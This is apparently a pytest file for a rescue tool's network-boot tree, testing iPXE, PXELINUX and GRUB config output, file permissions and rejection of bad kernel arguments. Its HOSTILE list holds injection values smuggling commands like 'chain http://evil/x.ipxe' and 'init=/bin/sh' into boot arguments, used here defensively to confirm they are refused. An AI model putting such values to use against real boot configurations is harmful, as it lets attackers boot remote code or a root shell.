"""The network boot tree (rescue/netboot.py): its files, and its configurations read back
as each boot loader reads them, hostile kernel arguments included."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import shutil
import stat
from pathlib import Path

import pytest

from resurgo.errors import BadInput
from resurgo.rescue import cmdline, iso, netboot
from resurgo.rescue.cmdline import After
from tests.support.cli import run

#: Arguments an administrator may well give: blanks, '=', '#' and ';' inside a word.
ODD_ARGS = (
    "resurgo.args=--map disk.sda=/dev/nvme0n1 --target /dev/nvme0n1",
    "resurgo.from=sftp://backup@10.0.0.5:22/srv/sets#1",
    "resurgo.keys=LABEL=keys:/a;b",
    "ip=10.0.0.9::10.0.0.1:255.255.255.0::eth0:none",
    "nameserver=10.0.0.1",
)
HOSTILE = (
    "ip=dhcp\nchain http://evil/x.ipxe",
    "ip=dhcp\r\nAPPEND init=/bin/sh",
    "resurgo.args=--yes ; chain http://evil/x.ipxe",
    "resurgo.args=x || shell",
    "resurgo.args=x && shell",
    "resurgo.args=x #rest dropped",
    "#comment",
    "resurgo.args=${net0/mac}",
    'resurgo.args="x" init=/bin/sh "',
    "resurgo.args='x'",
    "a\tb",
    "a\x1bb",
    "",
)


def entries(*extra: str, unattended: bool = True) -> list[iso.BootEntry]:
    return iso.boot_entries(unattended=unattended, after=After.POWEROFF, extra_args=extra)


# ----------------------------------------------------------------- reading them back


def ipxe_commands(script: str) -> dict[str, list[list[str]]]:
    """The commands under each label, as iPXE splits them (core/exec.c: blanks separate
    tokens, no quoting; a token beginning with # ends the line; ||, && and ; end a
    command)."""
    assert script.startswith("#!ipxe\n")
    out: dict[str, list[list[str]]] = {"": []}
    label = ""
    for line in script.splitlines()[1:]:
        tokens = line.split()
        if not tokens or tokens[0].startswith("#"):
            continue
        if tokens[0].startswith(":"):
            label = tokens[0][1:]
            out[label] = []
            continue
        command: list[str] = []
        for t in tokens:
            if t.startswith("#"):
                break
            if t in ("||", "&&", ";"):
                out[label].append(command)
                command = []
            else:
                command.append(t)
        out[label].append(command)
    return out


def pxelinux_labels(cfg: str) -> tuple[dict[str, str], dict[str, dict[str, str]]]:
    """Global directives and each LABEL's, as PXELINUX reads its file: a keyword and the
    rest of the line."""
    glob: dict[str, str] = {}
    labels: dict[str, dict[str, str]] = {}
    current: dict[str, str] | None = None
    for line in cfg.splitlines():
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        key, _, value = stripped.partition(" ")
        key = key.upper()
        if key == "LABEL":
            current = labels.setdefault(value, {})
        elif current is not None and key in ("LINUX", "INITRD", "APPEND"):
            assert key not in current, f"{key} twice in a label"
            current[key] = value
        else:
            assert key in ("SERIAL", "DEFAULT", "PROMPT", "TIMEOUT", "SAY"), line
            glob.setdefault(key, value)
    return glob, labels


def grub_linux_lines(cfg: str) -> dict[str, list[str]]:
    """Each menuentry's id and its `linux` command's words (GRUB quotes as sh does)."""
    out: dict[str, list[str]] = {}
    current = ""
    for line in cfg.splitlines():
        words = shlex.split(line, comments=True)
        if words[:1] == ["menuentry"]:
            current = words[words.index("--id") + 1]
        elif words[:1] == ["linux"]:
            out[current] = words
    return out


# ----------------------------------------------------------------- the configurations


def test_the_ipxe_script_boots_each_entry_with_its_command_line() -> None:
    es = entries(*ODD_ARGS)
    script = netboot.ipxe_script(es, timeout=5, label="resurgo 1.0 rescue image X")
    cmds = ipxe_commands(script)
    top = cmds[""]
    assert top[0][:1] == ["menu"] and top[1] == ["goto", es[0].id]  # no menus: the default
    assert [c[1] for c in top if c[0] == "item"] == [e.id for e in es]
    choose = next(c for c in top if c[0] == "choose")
    assert choose[:5] == ["choose", "--default", "recover", "--timeout", "5000"]
    assert top[-2] == ["goto", "shell"]  # Esc at the menu: the shell, nothing written
    for e in es:
        kernel, initrd, boot, failed = cmds[e.id][1:]
        assert kernel[:3] == ["kernel", netboot.KERNEL, f"initrd={netboot.INITRD}"]
        # iPXE hands the kernel its arguments joined by one blank; the kernel splits them.
        assert cmdline.split(" ".join(kernel[3:])) == list(e.args)
        assert initrd == ["initrd", netboot.INITRD]
        assert (boot, failed) == (["boot"], ["goto", "failed"])
    assert cmds["failed"][-1] == ["exit", "1"]
    assert set(cmds) == {"", "failed", *(e.id for e in es)}


def test_the_ipxe_script_without_a_menu_or_waiting_for_ever() -> None:
    es = entries()
    now = ipxe_commands(netboot.ipxe_script(es, timeout=0, label="x"))
    assert now[""] == [["goto", "recover"]]
    forever = ipxe_commands(netboot.ipxe_script(es, timeout=-1, label="x"))
    choose = next(c for c in forever[""] if c[0] == "choose")
    assert "--timeout" not in choose


def test_pxelinux_boots_each_entry_with_its_command_line() -> None:
    es = entries(*ODD_ARGS, unattended=False)
    glob, labels = pxelinux_labels(netboot.pxelinux_cfg(es, timeout=5, label="x"))
    assert glob["DEFAULT"] == "shell" and glob["PROMPT"] == "1" and glob["TIMEOUT"] == "50"
    assert list(labels) == [e.id for e in es]
    for e in es:
        label = labels[e.id]
        assert label["LINUX"] == netboot.KERNEL and label["INITRD"] == netboot.INITRD
        assert cmdline.split(label["APPEND"]) == list(e.args)
    now, _ = pxelinux_labels(netboot.pxelinux_cfg(es, timeout=0, label="x"))
    assert now["PROMPT"] == "0" and "TIMEOUT" not in now
    forever, _ = pxelinux_labels(netboot.pxelinux_cfg(es, timeout=-1, label="x"))
    assert forever["TIMEOUT"] == "0"  # PXELINUX: no timeout at all


def test_grub_boots_each_entry_from_the_served_root() -> None:
    es = entries(*ODD_ARGS)
    cfg = netboot.netboot_grub_cfg(es, timeout=5, label="x")
    lines = grub_linux_lines(cfg)
    assert list(lines) == [e.id for e in es]
    for e in es:
        assert lines[e.id] == ["linux", f"/{netboot.KERNEL}", *e.args]
    assert cfg.count(f"initrd /{netboot.INITRD}\n") == len(es)


@pytest.mark.parametrize("word", HOSTILE)
def test_a_hostile_argument_is_refused_by_every_configuration(word: str) -> None:
    es = entries(word)
    for make in (netboot.ipxe_script, netboot.pxelinux_cfg, netboot.netboot_grub_cfg):
        with pytest.raises(BadInput):
            make(es, timeout=5, label="x")


@pytest.mark.parametrize("word", HOSTILE[:-1])
def test_a_hostile_label_is_refused(word: str) -> None:
    for make in (netboot.ipxe_script, netboot.pxelinux_cfg, netboot.netboot_grub_cfg):
        with pytest.raises(BadInput):
            make(entries(), timeout=5, label=word)


@pytest.mark.parametrize("word", ODD_ARGS)
def test_what_is_refused_is_only_what_a_loader_would_misread(word: str) -> None:
    netboot.check_arg(word)


def test_a_command_line_longer_than_the_kernel_takes_is_refused() -> None:
    netboot.command_line(["x" * netboot.MAX_CMDLINE])
    with pytest.raises(BadInput, match="at most"):
        netboot.command_line(["x" * 1000, "y" * 1000])


# ----------------------------------------------------------------- the tree


def write(tmp_path: Path, directory: Path, loaders: netboot.Loaders | None = None,
          private: bool = False, extra: tuple[str, ...] = (),
          iso: Path | None = None) -> netboot.NetbootReport:
    """The tree of a small fake kernel and initramfs, with fake PXELINUX files and this
    machine's grub-mknetdir unless ``loaders``."""
    inputs = tmp_path / "in"
    if not inputs.exists():
        inputs.mkdir()
        (inputs / "vmlinuz").write_bytes(b"MZ kernel " * 100)
        (inputs / "initrd.img").write_bytes(os.urandom(4096))
        for name in netboot.PXELINUX_SOURCES:
            (inputs / name).write_bytes(name.encode() * 10)
    found = netboot.Loaders({n: inputs / n for n in netboot.PXELINUX_SOURCES},
                            netboot.Loaders.find().mknetdir)
    return netboot.write_tree(
        directory, kernel=inputs / "vmlinuz", initrd=inputs / "initrd.img",
        entries=entries(*extra), timeout=5, label="resurgo test",
        manifest={"build_id": "b1"}, loaders=loaders or found, private_initrd=private,
        iso=iso)


def test_the_tree_holds_the_kernel_initramfs_and_every_loader(tmp_path: Path) -> None:
    out = tmp_path / "tftp"
    report = write(tmp_path, out)
    assert (out / "vmlinuz").read_bytes() == (tmp_path / "in/vmlinuz").read_bytes()
    assert (out / "initrd.img").read_bytes() == (tmp_path / "in/initrd.img").read_bytes()
    for name in ("boot.ipxe", "pxelinux.0", "ldlinux.c32", "pxelinux.cfg/default",
                 "SHA256SUMS", "resurgo-netboot.json"):
        assert (out / name).is_file(), name
        assert name in report.files
    assert report.boot_files["ipxe"] == "boot.ipxe"
    assert report.boot_files["pxelinux"] == "pxelinux.0"
    if shutil.which("grub-mknetdir"):
        assert (out / netboot.GRUB_BIOS_NBP).is_file() and (out / netboot.GRUB_EFI_NBP).is_file()
        assert report.loaders == ("ipxe", "pxelinux", "grub-bios", "grub-efi")
        assert grub_linux_lines((out / netboot.GRUB_CFG).read_text())
    # Every file listed with its digest, and nothing left of the staging.
    sums = dict(reversed(line.split("  ", 1)) for line in
                (out / "SHA256SUMS").read_text().splitlines())
    for name, digest in sums.items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest, name
    on_disk = {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}
    assert on_disk == set(sums) | {"SHA256SUMS", "resurgo-netboot.json"}
    manifest = json.loads((out / "resurgo-netboot.json").read_text())
    assert manifest["format"] == "resurgo-netboot" and manifest["build_id"] == "b1"
    assert report.size == sum((out / n).stat().st_size for n in on_disk)


def test_the_tree_is_readable_by_the_server_but_a_private_initramfs(tmp_path: Path) -> None:
    old = os.umask(0o077)  # as under the save service
    try:
        write(tmp_path, tmp_path / "served")
        write(tmp_path, tmp_path / "private", private=True)
    finally:
        os.umask(old)
    for p in [tmp_path / "served", *(tmp_path / "served").rglob("*")]:
        want = 0o755 if p.is_dir() else 0o644
        assert stat.S_IMODE(p.stat().st_mode) == want, p
    assert stat.S_IMODE((tmp_path / "private/initrd.img").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "private/vmlinuz").stat().st_mode) == 0o644


def test_uefi_http_boot_gets_the_iso_of_the_build(tmp_path: Path) -> None:
    iso = tmp_path / "rescue-built.iso"
    iso.write_bytes(os.urandom(8192))
    out = tmp_path / "tftp"
    report = write(tmp_path, out, iso=iso)
    assert (out / netboot.ISO).read_bytes() == iso.read_bytes()
    assert report.boot_files["uefi-http"] == netboot.ISO and "uefi-http" in report.loaders
    assert netboot.ISO in report.files
    assert f"{hashlib.sha256(iso.read_bytes()).hexdigest()}  {netboot.ISO}" in \
        (out / "SHA256SUMS").read_text().splitlines()
    assert not any("UEFI HTTP" in w for w in report.warnings)
    # Without the ISO the report says what UEFI HTTP boot lacks; a new build drops the
    # older tree's ISO.
    again = write(tmp_path, out)
    assert not (out / netboot.ISO).exists()
    assert any("UEFI HTTP boot" in w and "--to" in w for w in again.warnings)
    # The ISO holds the initramfs: private with it.
    old = os.umask(0o022)
    try:
        write(tmp_path, tmp_path / "private", private=True, iso=iso)
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "private" / netboot.ISO).stat().st_mode) == 0o600


def test_the_iso_is_not_written_into_the_tree(tmp_path: Path) -> None:
    r = run("rescue", "--netboot", tmp_path / "nb", "--to", tmp_path / "nb" / "rescue.iso")
    assert r.returncode == 2 and "inside --netboot" in r.stderr, r.output
    assert not (tmp_path / "nb").exists()
    netboot.check_iso_place(tmp_path / "rescue.iso", tmp_path / "nb")


def test_a_new_build_replaces_the_tree_and_leaves_other_files_alone(tmp_path: Path) -> None:
    out = tmp_path / "tftp"
    write(tmp_path, out, extra=("resurgo.wait=1",))
    (out / "site.ipxe").write_text("#!ipxe\n")  # the administrator's own
    write(tmp_path, out, netboot.Loaders(None, None), extra=("resurgo.wait=2",))
    assert "resurgo.wait=2" in (out / "boot.ipxe").read_text()
    # PXELINUX and GRUB this time not there: the older tree's files are gone.
    for gone in ("pxelinux.0", "ldlinux.c32", "pxelinux.cfg", "grub"):
        assert not (out / gone).exists(), gone
    assert (out / "site.ipxe").read_text() == "#!ipxe\n"
    assert not [n for n in os.listdir(out) if n.startswith(".resurgo-netboot")]


def test_without_pxelinux_or_grub_the_report_says_what_to_install(tmp_path: Path) -> None:
    report = write(tmp_path, tmp_path / "t", netboot.Loaders(None, None))
    assert report.loaders == ("ipxe",)
    text = "\n".join(report.warnings)
    assert "apt-get install pxelinux syslinux-common" in text
    assert "grub-mknetdir" in text and "apt-get install grub-common" in text


def test_a_directory_of_other_files_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "srv-tftp"
    out.mkdir()
    (out / "pxelinux.0").write_bytes(b"someone else's")
    with pytest.raises(BadInput, match="holds other files"):
        write(tmp_path, out)
    assert (out / "pxelinux.0").read_bytes() == b"someone else's"
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(BadInput, match="symbolic link"):
        write(tmp_path, link)


def test_a_hostile_argument_writes_nothing(tmp_path: Path) -> None:
    with pytest.raises(BadInput):
        write(tmp_path, tmp_path / "t", extra=("ip=dhcp\nchain http://evil/",))
    assert not (tmp_path / "t").exists() or not os.listdir(tmp_path / "t")


def test_loaders_found_in_a_tree(tmp_path: Path) -> None:
    assert netboot.Loaders.find(tmp_path).pxelinux is None
    for name, where in netboot.PXELINUX_SOURCES.items():
        path = tmp_path / where[0].lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(name.encode())
    found = netboot.Loaders.find(tmp_path).pxelinux
    assert found is not None and set(found) == {"pxelinux.0", "ldlinux.c32"}


# ----------------------------------------------------------------- the command


def test_rescue_needs_an_iso_or_a_netboot_directory(tmp_path: Path) -> None:
    r = run("rescue")
    assert r.returncode == 2 and "--to ISO, --netboot DIR, or both" in r.stderr


def test_rescue_refuses_a_netboot_directory_of_other_files(tmp_path: Path) -> None:
    (tmp_path / "other").write_text("x")
    r = run("rescue", "--netboot", tmp_path)
    assert r.returncode == 2 and "holds other files" in r.stderr
    assert "Traceback" not in r.output


def test_rescue_refuses_a_kernel_argument_ipxe_would_run(tmp_path: Path) -> None:
    r = run("rescue", "--netboot", tmp_path / "nb", "--kernel-arg",
            "resurgo.args=x ; chain http://evil/")
    assert r.returncode == 2 and "--kernel-arg" in r.stderr
    assert not (tmp_path / "nb").exists()
